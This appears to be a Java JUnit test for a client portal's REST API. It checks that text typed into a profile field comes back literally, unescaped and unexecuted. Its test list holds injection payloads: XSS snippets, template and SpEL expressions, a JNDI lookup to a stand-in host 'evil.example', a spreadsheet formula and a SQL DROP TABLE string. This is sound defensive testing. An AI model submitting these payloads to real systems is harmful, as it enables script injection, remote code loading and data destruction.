package io.clientportal.spring.rest;

import static io.clientportal.spring.rest.Practice.desk;
import static io.clientportal.spring.rest.Practice.profile;
import static org.assertj.core.api.Assertions.assertThat;

import io.clientportal.kernel.ClientId;
import io.clientportal.spring.host.Browser;
import io.clientportal.spring.host.Browser.Answer;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** Texts come back as they were typed, as text. */
class EscapingRestTest extends RestTest {

    private static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "</textarea><svg/onload=alert(1)>",
            "${7*7}",
            "__${7*7}__::.x",
            "T(java.lang.Runtime).getRuntime()",
            "${jndi:ldap://evil.example/a}",
            "=1+1",
            "'; drop table portal_client; --",
            "\u202Eevil",
            "a%_b",
            "\u2028\u2029");

    @Test
    @Tag("SEC-158")
    @Tag("SEC-159")
    void texts_are_literal_for_contacts_and_staff() {
        ClientId client = newClient();
        Browser contact = contactOf(client);
        Browser petra = petra();
        for (String text : TEXTS) {
            String json = JsonMapper.shared().writeValueAsString(Map.of("values", Map.of("occupation", text)));
            Answer answer = Practice.propose(contact, client, json);
            if (text.isBlank()) {
                continue;
            }
            assertThat(answer.status()).as(text + answer.body()).isEqualTo(201);
            assertThat(answer.header("Content-Type")).isEqualTo("application/json");
            String expected = text.strip();
            assertThat(answer.json().get("fields").get(0).get("proposed").asString())
                    .isEqualTo(expected);
            String id = answer.json().get("id").asString();
            assertThat(petra.get(desk(client) + "/requests/" + id)
                            .json()
                            .get("fields")
                            .get(0)
                            .get("proposed")
                            .asString())
                    .isEqualTo(expected);
            assertThat(contact.send("DELETE", profile(client) + "/proposals/" + id, "")
                            .status())
                    .isEqualTo(204);
        }
    }
}
